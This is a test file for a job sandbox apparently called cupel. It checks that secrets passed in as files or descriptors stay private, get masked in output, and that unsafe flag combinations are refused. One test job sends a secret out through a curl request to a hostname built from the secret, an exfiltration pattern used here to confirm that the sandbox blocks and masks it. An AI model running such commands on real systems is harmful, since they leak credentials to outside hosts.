/** Secrets of jobs: given as files and behind descriptors, and in nothing that anybody else can read. */
import { describe, expect, test } from "bun:test";
import { chownSync, existsSync, lstatSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Outcome } from "../../src/model/outcome.ts";
import { ended, listing } from "../support/network-job.ts";
import { childrenOf, readIfThere } from "../support/processes.ts";
import { installCupel } from "../support/run-cli.ts";
import { makeTempDir } from "../support/temp-dir.ts";
import { openTerminal } from "../support/terminal.ts";
import { callers, ordinaryCaller, rootCallers } from "../support/tester.ts";

const cupel = installCupel();

/** A value that stands nowhere else. */
const freshSecret = (): string => `s3cr3t-${crypto.randomUUID()}`;

/** Files below a directory that hold a text. */
function holding(directory: string, text: string): string[] {
  if (!existsSync(directory)) return [];
  return readdirSync(directory, { recursive: true, encoding: "utf8" })
    .map((name) => join(directory, name))
    .filter((path) => lstatSync(path).isFile() && readFileSync(path, "latin1").includes(text));
}

describe.each(callers)("secrets, called by $name,", (caller) => {
  test("are files and descriptors of the job's own, which it cannot change", async () => {
    using directory = makeTempDir({ owner: caller });
    const [file, piped] = [freshSecret(), freshSecret()];
    const path = directory.file("token", `${file}\n`, 0o600);
    const sources = `--secret FILE=file:${path} --secret-fd PIPE=fd:7 --secret-fd "MADE=command:echo made"`;
    const job = [
      "stat -c '%a %U' /run/secrets /run/secrets/FILE",
      "cat /run/secrets/FILE",
      "ls /run/secrets",
      "cat <&$CUPEL_SECRET_PIPE_FD",
      "cat <&$CUPEL_SECRET_MADE_FD",
      "(echo x >>/run/secrets/FILE) 2>/dev/null || echo read-only",
      "(echo x >&$CUPEL_SECRET_PIPE_FD) 2>/dev/null || echo sealed",
      "env | grep ^CUPEL | sort",
      "ls /proc/self/fd | wc -l",
    ].join("; ");
    const script = `printf %s ${piped} | $CUPEL run ${sources} -- sh -c "$JOB" 7<&0`;
    const ran = await cupel.shell(caller, script, { env: { JOB: job } });
    expect(ran).toEqual(
      ended(
        [
          "500 job\n400 job",
          file,
          "FILE",
          `${piped}made`,
          "read-only",
          "sealed",
          "CUPEL_SECRET_MADE_FD=4\nCUPEL_SECRET_PIPE_FD=3",
          // 0, 1 and 2, the two of its own, and the directory that ls reads.
          "6\n",
        ].join("\n"),
      ),
    );
  });

  test("are in no argument, variable or file while the job runs, nor after cupel was killed", async () => {
    using directory = makeTempDir({ owner: caller });
    const secret = freshSecret();
    const path = directory.file("token", secret, 0o600);
    const flags = ["--secret", `A=file:${path}`, "--secret-fd", `B=file:${path}`, "--result", directory.at("result")];
    await using running = cupel.start(caller, ["run", ...flags, "--", "sh", "-c", "echo ready; exec sleep 60"]);
    await running.wrote("ready");
    const processes = [running.pid, ...childrenOf(running.pid)];
    const seen = processes.flatMap((pid) =>
      ["cmdline", "environ"].filter((name) => readIfThere(`/proc/${pid}/${name}`).includes(secret)),
    );
    expect([processes.length > 2, seen]).toEqual([true, []]);
    running.kill("SIGKILL");
    await running.ended;
    const places = [cupel.state(caller), cupel.workspace(caller), directory.path, "/dev/shm"];
    // The source is found: so would be what is not to be there.
    expect(places.flatMap((place) => holding(place, secret))).toEqual([path]);
  });

  test("are taken out of what cupel says and writes, in whichever way a job brings them there", async () => {
    using directory = makeTempDir({ owner: caller });
    const secret = freshSecret();
    const flags = ["--secret", `A=file:${directory.file("token", secret, 0o600)}`, "--result", directory.at("result")];
    const script = "curl -s -o /dev/null http://$(cat /run/secrets/A).example/; exec /$(cat /run/secrets/A)";
    const ran = await cupel.run(caller, ["run", ...flags, ...listing("a.example"), "--", "sh", "-c", script]);
    expect([ran.code, ran.stderr.includes("[secret A].example:80"), ran.stderr.includes(`${secret}.example`)]).toEqual([
      127,
      true,
      false,
    ]);
    const text = readFileSync(directory.at("result"), "utf8");
    const outcome = JSON.parse(text) as Outcome;
    expect([text.includes(secret), outcome.network?.denials]).toEqual([
      false,
      [{ host: "[secret A].example", port: 80, reason: "host-not-listed", count: 1 }],
    ]);
    expect(outcome.guarantees.find(({ id }) => id === "secret.private")?.kept).toBe(true);
  });

  test("are taken out of the job's output, also in pieces and in other forms", async () => {
    using directory = makeTempDir({ owner: caller });
    const secret = freshSecret();
    const path = directory.file("token", `${secret}\n`, 0o600);
    const job = `cat /run/secrets/A; base64 -w0 /run/secrets/A; echo; printf %s ${secret.slice(0, 9)}; printf '%s.' ${secret.slice(9)}; cat /run/secrets/A >&2; printf 'a s3c'`;
    const ran = await cupel.run(caller, ["run", "--secret", `A=file:${path}`, "--mask-output", "--", "sh", "-c", job]);
    expect(ran).toEqual({
      ...ended("[secret A]\n[secret A]\n[secret A].a s3c"),
      stderr: "[secret A]\n",
    });
  });

  test("masked, leave a job's output, code and caps as they were", async () => {
    using directory = makeTempDir({ owner: caller });
    const path = directory.file("token", freshSecret(), 0o600);
    const flags = ["--secret", `A=file:${path}`, "--mask-output"];
    const large = "head -c 3000000 /dev/zero | tr '\\0' x; exit 7";
    const ran = await cupel.run(caller, ["run", ...flags, "--", "sh", "-c", large]);
    expect([ran.code, ran.stdout.length, ran.stderr]).toEqual([7, 3_000_000, ""]);
    const capped = await cupel.run(caller, ["run", ...flags, "--output-size", "1000", "--", "sh", "-c", large]);
    expect([capped.stdout.length, capped.stderr]).toEqual([
      1000,
      "cupel: the job wrote 3000000 bytes of output, of which 1000 were passed on, its cap\n",
    ]);
    // A reader that goes away ends a job that goes on writing.
    const script = `$CUPEL run ${flags.join(" ")} -- yes | head -n 1`;
    expect(await cupel.shell(caller, script)).toEqual(ended("y\n"));
  });
});

test("memory of secrets lies on no stream of the job's, however many descriptors root's grants take", async () => {
  const [root] = rootCallers;
  if (root === undefined) return;
  using directory = makeTempDir({ owner: root });
  const token = directory.file("token", freshSecret(), 0o600);
  const files = Array.from({ length: 60 }, (_, at) => {
    const path = directory.file(`owned-${at}`, "");
    chownSync(path, 3000 + at, 3000 + at);
    return `--read ${path}`;
  });
  for (const count of [30, 48, 52, 54, 60]) {
    const flags = ["--secret-fd K=file:", "--secret-fd L=file:"].map((flag) => `${flag}${token}`).join(" ");
    const job = "sh -c 'cat; echo out; echo err >&2'";
    const script = `echo in | "$CUPEL" run --workspace ro ${files.slice(0, count).join(" ")} ${flags} -- ${job} 2>${directory.at("err")} | cat; cat ${directory.at("err")}`;
    expect([count, (await cupel.shell(root, script)).stdout]).toEqual([count, "in\nout\nerr\n"]);
  }
});

describe.each(callers)("a terminal of the job's own, called by $name,", (caller) => {
  test("shows no secret with --mask-output, and all else as it would", async () => {
    using directory = makeTempDir({ owner: caller });
    const secret = freshSecret();
    const path = directory.file("token", `${secret}\n`, 0o600);
    const flags = ["--tty", "--mask-output", "--secret", `A=file:${path}`];
    const script =
      "cat /run/secrets/A; printf 'name s3'; read name; echo \"<$name>\"; cat /run/secrets/A >/dev/tty; exit 3";
    const words = [...caller.prefix, cupel.path, "run", ...flags, "--", "sh", "-c", script];
    const options = { cwd: cupel.workspace(caller), env: cupel.environment(caller) };
    await using session = openTerminal(words, options);
    await session.shows("name s3");
    session.type(`${secret} me\r`);
    expect(await session.ended).toEqual({ code: 3, signal: null });
    expect(session.text().split("\r\n").slice(-5)).toEqual([
      "[secret A]",
      "name s3[secret A] me",
      "<[secret A] me>",
      "[secret A]",
      "",
    ]);
  });
});

describe("secrets are refused", () => {
  const caller = ordinaryCaller;
  const refusal = async (...words: readonly string[]) => {
    using directory = makeTempDir({ owner: caller });
    const path = directory.file("token", "abc", 0o600);
    const { code, stdout, stderr } = await cupel.run(
      caller,
      words.map((word) => word.replace("FILE", path)),
    );
    return [code, stdout, stderr.split("\n")[0]?.replace(path, "FILE")];
  };

  test.each([
    [
      ["run", "--strategy", "process", "--secret", "A=file:FILE", "--", "true"],
      "cupel: refused: strategy process does not keep fs.read (only granted paths can",
    ],
    [
      ["run", "--batch", "/dev/null", "--secret", "A=file:FILE"],
      "cupel: secrets and --batch do not go together: its jobs share what they are given; leave one out",
    ],
    [
      ["run", "--mask-output", "--secret", "A=file:FILE", "--", "true"],
      "cupel: --mask-output: the secret A is shorter than 4 bytes, and taking it out would leave nothing readable; leave one of the two out",
    ],
    [
      ["run", "--secret", "A=hunter2", "--", "true"],
      "cupel: --secret A names no source; write A=file:PATH, A=fd:N with a descriptor above 2, or A=command:PROGRAM, and never the value itself",
    ],
  ])("%j", async (words, message) => expect(await refusal(...words)).toEqual([125, "", message]));

  test("of a program that a job file names, which would run outside", async () => {
    using directory = makeTempDir({ owner: caller });
    const job = directory.file("job.yaml", 'command: [a]\nsecrets: {files: {A: "command:touch made"}}\n');
    const ran = await cupel.run(caller, ["run", job], { cwd: directory.path });
    expect([ran.code, ran.stderr, existsSync(directory.at("made"))]).toEqual([
      125,
      `cupel: ${job}:2:22: secrets.files names a program that cupel would run outside of the sandbox; name it by a flag, or in your own configuration\n`,
      false,
    ]);
  });

  test("no more where they are given up by name: a plain process has them behind descriptors", async () => {
    using directory = makeTempDir({ owner: caller });
    const path = directory.file("token", "value", 0o600);
    const flags = ["--strategy", "process", "--accept-missing", "all", "--secret", `A=file:${path}`];
    const ran = await cupel.run(caller, ["run", ...flags, "--", "sh", "-c", "cat <&$CUPEL_SECRET_A_FD"]);
    expect([ran.code, ran.stdout]).toEqual([0, "value"]);
  });

  test("by plan nothing is read of them, and nothing told but their names", async () => {
    const ran = await cupel.run(caller, ["plan", "--secret", "A=file:/no/such", "--mask-output", "--", "true"]);
    expect([ran.code, ran.stderr, ran.stdout.includes("A in a file"), ran.stdout.includes("/no/such")]).toEqual([
      0,
      "",
      true,
      false,
    ]);
  });
});
